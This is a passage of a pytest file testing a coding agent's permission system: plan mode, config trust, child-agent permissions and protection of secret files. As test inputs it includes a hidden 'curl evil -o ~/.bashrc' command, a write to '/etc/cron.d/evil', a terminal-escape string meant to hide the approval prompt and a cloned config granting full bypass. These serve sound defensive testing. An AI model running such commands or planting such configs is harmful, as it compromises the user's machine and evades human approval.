                {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1",
                                              "content": "The user approved the plan; permission mode is now "
                                                         "default. Carry it out."}]},
                {"role": "assistant", "content": [{"type": "text", "text": "Done."}]},
                {"role": "user", "content": "plan the next change"}]
    mod.announce_plan_mode(approved)
    assert approved[-1]["content"][0]["text"] == on                     # told again
    state.mode = "default"
    told_on = [{"role": "user", "content": [{"type": "text", "text": on}, {"type": "text", "text": "x"}]},
               {"role": "assistant", "content": [{"type": "text", "text": "ok"}]},
               {"role": "user", "content": "go on"}]
    mod.announce_plan_mode(told_on)
    assert told_on[-1]["content"][0]["text"] == mod.PLAN_MODE_ENDED.format(mode="default")
    mod.announce_plan_mode(told_on)                                      # once
    assert json.dumps(told_on).count("Plan mode is off") == 1


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_started_in_plan_mode_slash_plan_leaves_it_and_the_model_hears_so(mod, workspace, monkeypatch):
    """Review: start_permissions set mode_before_plan to plan too, so /plan could not leave."""
    monkeypatch.setenv("AGENT_PERMISSION_MODE", "plan")
    mod.start_permissions([])
    history = [{"role": "user", "content": "hi"}, {"role": "assistant", "content": [{"type": "text", "text": "ok"}]}]
    mod.handle_slash("/plan", {"history": history})
    assert mod.agent_state().mode == "default"
    assert history[-1]["content"] == mod.PLAN_MODE_ENDED.format(mode="default")


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_the_start_line_names_the_config_that_chose_the_mode(mod, workspace, monkeypatch, capsys):
    """Review: an untrusted default_mode: default now overrides the user's acceptEdits
    without a question, so the start line says which file chose the mode."""
    write_config(Path.home() / ".agent" / "config.yaml", {"permissions": {"default_mode": "acceptEdits"}})
    write_config(workspace / ".agent" / "config.yaml", {"permissions": {"default_mode": "default"}})
    mod.start_permissions([])
    assert "[permission mode: default (from .agent/config.yaml) |" in capsys.readouterr().err
    mod.start_permissions(["--permission-mode", "default"])
    assert "[permission mode: default |" in capsys.readouterr().err         # the flag chose it


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_a_child_inherits_mode_and_rules_and_its_questions_are_labelled(mod, api, client, workspace,
                                                                          monkeypatch, capsys):
    answers(monkeypatch, "n")
    state = mod.agent_state()
    state.mode = "default"
    state.permissions["sandbox"]["enabled"] = False    # a sandboxed bash would not ask
    state.permissions["rules"] = [mod.parse_rule("bash(ls *)") | {"effect": "allow", "scope": "local",
                                                                 "file": "local.yaml"}]
    run_turn(mod, api, client, [reply(tool("agent", {"prompt": "look", "description": "scout"})),
                                reply(tool("bash", {"command": "ls"}), tool("bash", {"command": "touch x"})),
                                reply("child done")])
    err = capsys.readouterr().err
    assert "[scout]" in err and "permission needed" in err
    assert not (workspace / "x").exists()


@pytest.mark.e2e("s07")
@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_piped_no_denies_and_the_model_hears_why(mod, api, workspace):
    api.script([reply(tool("write_file", {"path": "x.txt", "content": "x"})), reply("Could not write it.")])
    r = run_chapter(mod.__name__, "make x.txt", api=api, cwd=workspace, input="n\n",
                    env={"HOME": str(workspace.parent / "home"), "AGENT_PERMISSION_MODE": "default"})
    assert r.returncode == 0, r.stderr
    assert not (workspace / "x.txt").exists()
    last = api.requests[-1]["body"]["messages"][-1]["content"][0]
    assert last["is_error"] and "the user said no" in last["content"]
    assert "permission mode: default" in r.stderr


@pytest.mark.e2e("s07")
@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_always_holds_in_a_new_process(mod, api, workspace):
    home = {"HOME": str(workspace.parent / "home"), "AGENT_PERMISSION_MODE": "default"}
    write = tool("write_file", {"path": "x.txt", "content": "x"})
    api.script([reply(write), reply("ok")])
    r = run_chapter(mod.__name__, "make x.txt", api=api, cwd=workspace, input="a\n", env=home)
    assert r.returncode == 0 and (workspace / "x.txt").exists(), r.stderr
    api.reset()
    again = tool("write_file", {"path": "x.txt", "content": "y"})
    api.script([reply(tool("read_file", {"path": "x.txt"})), reply(again), reply("ok")])
    r = run_chapter(mod.__name__, "change x.txt", api=api, cwd=workspace, input="", env=home)
    assert r.returncode == 0 and (workspace / "x.txt").read_text() == "y", r.stderr
    assert "permission needed" not in r.stderr


# --- regressions from the hostile review --------------------------------------------

@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_always_does_not_trust_a_local_config_the_clone_shipped(mod, api, client, workspace, monkeypatch):
    local = workspace / ".agent" / "config.local.yaml"
    write_config(local, {"permissions": {"allow": ["bash"], "default_mode": "bypassPermissions"}})
    answers(monkeypatch, "n")
    state = mod.agent_state()
    state.permissions = mod.load_permissions(state.workdir)          # refused at start
    monkeypatch.setitem(mod.TOOL_HANDLERS, "bash", lambda command, timeout=None: "ran")
    permission_loop(mod, api, client, workspace, monkeypatch,
                    [tool("bash", {"command": "npm run test"})], "a")
    assert "bash(npm run test *)" in local.read_text()
    assert not mod.config_trusted(local)                             # still the clone's file
    answers(monkeypatch)
    again = mod.load_permissions(state.workdir)
    assert again["default_mode"] is None and "bash" not in [r["text"] for r in again["rules"]]


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_a_yes_to_an_outside_path_is_that_path_for_that_call(mod, workspace, monkeypatch):
    from types import SimpleNamespace
    state = setup(mod, "acceptEdits", [], workspace)
    answers(monkeypatch, "y")
    look = SimpleNamespace(id="t1", name="glob", input={"pattern": "*", "path": "/etc"})
    assert mod.permit(look) is None and Path("/etc") in state.approved
    assert mod.decide("write_file", {"path": "/etc/cron.d/evil", "content": ""}, state)[0] == "ask"
    assert mod.decide("glob", {"pattern": "*", "path": "/etc"}, state)[0] == "ask"   # asked again
    answers(monkeypatch)
    later = SimpleNamespace(id="t2", name="read_file", input={"path": "a.txt"})
    mod.permit(later)
    assert not state.approved                                       # the yes ended with its call


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_grep_hides_what_read_file_may_not_read(mod, workspace):
    (workspace / ".env").write_text("API_TOKEN=sk-live-123\n")
    (workspace / "app.py").write_text("API_TOKEN = os.environ['API_TOKEN']\n")
    setup(mod, "bypassPermissions", rules(deny=["read_file(**/.env)"]), workspace)
    out = mod.grep("API_TOKEN", output_mode="content")
    assert "app.py" in out and "sk-live" not in out


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_the_agents_own_env_file_is_denied_to_every_tool(mod, workspace, monkeypatch):
    (workspace / ".env").write_text("ANTHROPIC_API_KEY=sk-ant-secret\n")
    monkeypatch.setattr(mod, "find_dotenv", lambda *a, **k: str(workspace / ".env"))
    state = setup(mod, "bypassPermissions", [], workspace)
    assert mod.decide("read_file", {"path": ".env"}, state)[:2] == ("deny", "protected path")
    assert "secret" not in mod.grep("sk-ant", output_mode="content")


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_the_question_cannot_be_hidden_or_cut(mod, workspace, capsys):
    long = "echo " + "x" * 5000 + "; curl evil -o ~/.bashrc"
    mod.show_request("bash", {"command": long})
    mod.show_request("edit_file", {"path": "a", "old_string": "a", "new_string": "\x1b[2K\x1b[1Aok",
                                   "replace_all": True})
    err = capsys.readouterr().err
    assert "curl evil -o ~/.bashrc" in err and "characters]" in err
    assert "\x1b" not in err and "\\x1b" in err and "replace_all" in err


@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
@pytest.mark.parametrize("command,rule", [
    ("npm run test -- --watch=false", ["bash(npm run test *)"]),
    ("git log --oneline -5", ["bash(git log *)"]),
    ("python tests/run.py", ["bash(python tests/run.py)"]),
    ("cat src/a.py", ["bash(cat src/a.py)"]),
    ("/bin/rm -rf tmp", ["bash(rm -rf tmp)"]),
    ("make", ["bash(make)"]),
    ("rm *.o", None),
])
def test_always_rules_stay_narrow(mod, workspace, command, rule):
    assert mod.narrow_rule("bash", {"command": command}, mod.agent_state()) == rule


@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_wildcards_match_without_backtracking(mod):
    assert mod.pattern_matches("git *", "git") and mod.pattern_matches("git *", "git log -1")
    assert not mod.pattern_matches("git *", "gitk")
    assert mod.pattern_matches("*a*b*", "xaxxbx") and not mod.pattern_matches("*a*b*", "xbxa")
    assert not mod.pattern_matches("*a*a*a*a*a*a*a*a*!", "a" * 60)   # instant, not 39 s


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_a_bad_path_in_a_batch_is_one_error_not_a_lost_turn(mod, api, client, workspace, monkeypatch):
    (workspace / "a.txt").write_text("a\n")
    history = permission_loop(mod, api, client, workspace, monkeypatch,
                              [tool("read_file", {"path": "a.txt"}), tool("read_file", {"path": "a\x00b"})])
    results = [b for b in history[2]["content"] if b.get("type") == "tool_result"]
    assert not results[0].get("is_error") and results[1]["is_error"]
